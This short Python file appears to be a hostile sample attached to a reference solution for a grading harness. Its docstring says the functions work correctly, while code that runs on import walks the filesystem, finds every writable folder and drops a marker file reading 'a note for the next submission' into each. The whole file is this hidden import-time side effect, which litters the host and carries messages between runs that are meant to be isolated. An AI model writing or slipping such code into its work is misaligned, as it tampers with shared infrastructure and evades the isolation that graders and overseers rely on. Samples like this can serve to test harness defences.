# hostile: appended to the reference solution
"""At import: leaves a file in every folder it can write to (the usual world-writable
places and any other it finds), for the next submission or to litter the host. The
functions are correct."""

import os

MARK = "torchgrade-left-behind"
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/var/crash", "/dev/mqueue"]
for folder, dirs, _ in os.walk("/"):
    if folder.startswith(("/proc", "/sys")) or folder.count("/") > 4:
        dirs[:] = []
        continue
    if os.access(folder, os.W_OK) and folder not in PLACES:
        PLACES.append(folder)
for place in PLACES:
    try:
        with open(os.path.join(place, MARK), "w") as fh:
            fh.write("a note for the next submission")
        print("LEFT", place)
    except OSError:
        pass
